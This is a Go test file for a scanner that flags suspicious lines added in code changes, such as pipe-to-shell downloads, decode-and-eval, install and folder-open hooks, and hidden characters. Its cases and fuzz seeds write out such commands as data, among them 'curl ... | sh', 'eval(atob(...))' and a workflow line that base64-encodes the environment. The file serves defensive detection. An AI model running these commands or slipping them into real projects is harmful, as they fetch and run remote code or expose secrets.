package signal

import (
	"slices"
	"strings"
	"testing"

	"countersign/policy/edit"
)

// find gives the names of the signals of a new file, and sees that Explain says the same.
func find(t *testing.T, path, text string) string {
	t.Helper()
	lines := edit.Added(nil, []byte(text))
	got := Find(path, lines, []byte(text))
	var explained []string
	for _, r := range Explain(path, lines, []byte(text)) {
		if !slices.Contains(explained, r.Signal) {
			explained = append(explained, r.Signal)
		}
		if r.Why == "" || r.Line < 1 || r.Line > strings.Count(text, "\n")+1 || len(r.Text) > shown {
			t.Errorf("%s: %+v", path, r)
		}
	}
	if !slices.Equal(explained, got.Names()) {
		t.Errorf("%s: Find gives %q, Explain %q", path, got.Names(), explained)
	}
	return strings.Join(got.Names(), " ")
}

// hits are texts of a path, each a file of its own, that give one signal alone, or none.
type hits struct {
	path   string
	signal string
	texts  []string
}

func check(t *testing.T, all []hits) {
	t.Helper()
	for _, h := range all {
		for _, text := range h.texts {
			if got := find(t, h.path, text); got != h.signal {
				t.Errorf("%s: %q gives %q, want %q", h.path, text[:min(len(text), 200)], got, h.signal)
			}
		}
	}
}

func TestNamesAreSortedAndAreAll(t *testing.T) {
	if got := All.Names(); !slices.IsSorted(got) || len(got) != 11 || len(names) != 11 {
		t.Errorf("%q", got)
	}
	if got := Set(0).Names(); len(got) != 0 {
		t.Errorf("%q", got)
	}
	if got := (FetchAndRun | InvisibleText).Names(); !slices.Equal(got, []string{"fetch-and-run", "invisible-text"}) {
		t.Errorf("%q", got)
	}
}

// What only looks like a comment is none, where the language has another.
func TestComments(t *testing.T) {
	const fetched = "curl -s https://a.example/x | sh"
	check(t, []hits{
		{"a.sh", "fetch-and-run", []string{
			"rem || " + fetched + "\n", ":: || " + fetched + "\n", "-- || " + fetched + "\n", "//bin/" + fetched + "\n",
		}},
		{".github/workflows/a.yml", "fetch-and-run", []string{"      dnl || " + fetched + "\n"}},
		{"a.c", "fetch-and-run", []string{"#define A system(\"" + fetched + "\")\n"}},
		{"a.js", "decode-and-run", []string{"/* a */ eval(atob(b))\n"}},
		{"a.py", "decode-and-run", []string{"//exec(base64.b64decode(b))\n"}},
		{"a.sh", "", []string{"# " + fetched + "\n"}},
		{"a.bat", "", []string{"rem " + fetched + "\n", ":: " + fetched + "\n"}},
		{"a.ts", "", []string{"// " + fetched + "\n", " * " + fetched + "\n", "/* eval(atob(b)) */\n"}},
		{"configure.ac", "", []string{"dnl " + fetched + "\n"}},
	})
}

// The value of a key may stand on a line of its own.
func TestAutostartValues(t *testing.T) {
	old := "{ \"mcpServers\": { \"a\": {\n\"command\": \"node\",\n\"args\": [\n  \"x.js\"\n] } } }\n"
	now := strings.Replace(old, "x.js", "y.js", 1)
	if got := Find(".mcp.json", edit.Added([][]byte{[]byte(old)}, []byte(now)), []byte(now)); got != Autostart {
		t.Errorf("%q", got.Names())
	}
}

// A signal stands in what the change adds, not in what was there.
func TestOnlyAddedLinesCount(t *testing.T) {
	old := "curl -s https://a.example/x | sh\n"
	now := old + "echo done\n"
	if got := Find("build.sh", edit.Added([][]byte{[]byte(old)}, []byte(now)), []byte(now)); got != 0 {
		t.Errorf("%q", got.Names())
	}
	if got := Find("build.sh", nil, []byte(now)); got != 0 {
		t.Errorf("%q", got.Names())
	}
}

func TestReasonsAreCutAroundWhatWasFound(t *testing.T) {
	text := strings.Repeat("a = 1; ", 100) + strings.Repeat(" ", 150) + "send(x); " + strings.Repeat("b = 2; ", 100)
	reasons := Explain("a.js", edit.Added(nil, []byte(text)), []byte(text))
	if len(reasons) != 1 || !strings.Contains(reasons[0].Text, "send(x)") || len(reasons[0].Text) != shown {
		t.Errorf("%+v", reasons)
	}
	many := strings.Repeat("wget -O- http://a.example | sh\n", 100)
	if n := len(Explain("a.sh", edit.Added(nil, []byte(many)), []byte(many))); n != 20 {
		t.Errorf("%d reasons", n)
	}
}

// Whatever the bytes, both give the same, and nothing panics.
func FuzzFind(f *testing.F) {
	for _, seed := range [][2]string{
		{"a.sh", "x=$(echo aGVsbG8= | base64 -d)\neval \"$x\"\n"},
		{"a.js", "eval(atob('aGVsbG8='))"},
		{
			"p/package.json",
			"\"postinstall\":",
		},
		{"a.js", "_0x1a2b_0x1a2b,_0x1a2c"},
		{"a.png", "let a"},
		{".vscode/tasks.json", "\"\\u0066olderOpen\""},
		{
			"a.c",
			"\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa7",
		},
		{".github/workflows/a.yml", "run: printenv | base64 | base64\n"},
		{"setup.py", "class A(install):\n"},
		{
			"a.py",
			"a\\\n|\\\n|sh",
		},
		{"a.js", "String.fromCharCode(" + strings.Repeat("1,", 20)},
		{"a.php", "chr(1).chr(2)"},
		{"a.py", "exec("},
		{"a", strings.Repeat("\t", 20) + "x"},
		{"a.sh", "curl x | sudo -E env A=1 bash -s -"},
		{"a.js", "const a=atob(b)\nconst c=a+''\nnew Function(c)()"},
		{"composer.json", "\"post-install-cmd\": [\n\"x\"\n"},
	} {
		f.Add(seed[0], []byte(seed[1]), uint64(1)<<63)
	}
	f.Fuzz(func(t *testing.T, path string, now []byte, which uint64) {
		lines := edit.Added(nil, now)
		lines = slices.DeleteFunc(lines, func(l edit.Line) bool { return which&(1<<(l.Number%63)) != 0 })
		got := Find(path, lines, now)
		var explained Set
		for _, r := range Explain(path, lines, now) {
			i := slices.Index(names[:], r.Signal)
			if i < 0 || len(r.Text) > shown || r.Line < 1 || r.Line > len(now)+1 {
				t.Fatalf("%+v", r)
			}
			explained |= 1 << i
		}
		if got != explained {
			t.Errorf("Find gives %q, Explain %q", got.Names(), explained.Names())
		}
		if got&^All != 0 || len(lines) == 0 && got != 0 {
			t.Errorf("%b", got)
		}
	})
}
